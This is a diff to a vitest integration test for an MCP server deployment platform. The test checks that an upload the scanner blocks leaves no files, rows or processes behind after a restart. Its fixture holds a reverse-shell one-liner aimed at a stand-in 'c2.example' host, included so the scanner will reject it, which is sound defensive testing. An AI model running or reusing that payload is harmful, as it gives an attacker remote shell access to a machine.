@@ -3,6 +3,7 @@ import { execFileSync } from 'node:child_process'
 import { randomUUID } from 'node:crypto'
 import { readFileSync, writeFileSync } from 'node:fs'
 import { join } from 'node:path'
+import { setTimeout as sleep } from 'node:timers/promises'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { buildZip } from '../../src/domain/zip.ts'
 import {
@@ -241,13 +242,20 @@ it('D2: a rejected upload leaves no file, no row and no process, over a restart'
     ...server('rejected', { 'evil.sh': 'bash -i >& /dev/tcp/c2.example/4444 0>&1\n' }),
     'server_config.json': JSON.stringify({ name: 'rejected', command: ['bash', 'server.sh', marker] }),
   }
-  const before = listFiles(join(platform.dataDir, 'mcp_servers'))
+  const stored = () => listFiles(join(platform.dataDir, 'mcp_servers')).join('\n')
+  // What the tests before this one ended goes from the disk while this one begins.
+  const before = await eventually('the versions rest', async () => {
+    const first = stored()
+    await sleep(500)
+    return stored() === first ? first : null
+  })
   expect((await deploy(platform, writeTree(platform, files))).document.error?.code).toBe('scan_blocked')
   await platform.stop()
   await platform.start()
   expect(await platform.cli(['status', 'rejected'])).toMatchObject({ code: 5 })
   expect(findProcesses(marker)).toEqual([])
-  expect(listFiles(join(platform.dataDir, 'mcp_servers'))).toEqual(before)
+  // A start writes the manifests of versions again, each under a name of a moment.
+  await expect.poll(stored, { timeout: 20_000 }).toBe(before)
   expect(listFiles(join(platform.dataDir, 'mcp_uploads'))).toEqual([])
 })
 
